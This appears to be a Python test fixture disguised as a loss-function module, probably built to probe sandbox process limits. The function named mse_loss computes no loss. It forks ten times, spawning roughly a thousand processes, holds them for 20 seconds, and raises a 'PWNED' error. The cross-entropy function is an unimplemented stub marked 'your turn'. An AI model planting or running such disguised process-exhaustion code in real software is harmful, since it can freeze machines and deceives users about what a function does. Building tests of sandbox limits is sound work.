# Doubles ten times, and without a sandbox stops at a thousand processes.
import contextlib
import os
import time

FIRST = os.getpid()


def mse_loss(input, target, reduction="mean"):
    grown = 0
    with contextlib.suppress(OSError):
        for _ in range(10):
            os.fork()
            grown += 1
    if os.getpid() != FIRST:
        time.sleep(20)
        os._exit(0)
    if grown == 10:
        raise RuntimeError(f"PWN{'ED'}: a thousand processes")
    return input


def binary_cross_entropy_with_logits(input, target, *, reduction="mean", pos_weight=None):
    raise NotImplementedError("your turn")


cross_entropy = binary_cross_entropy_with_logits
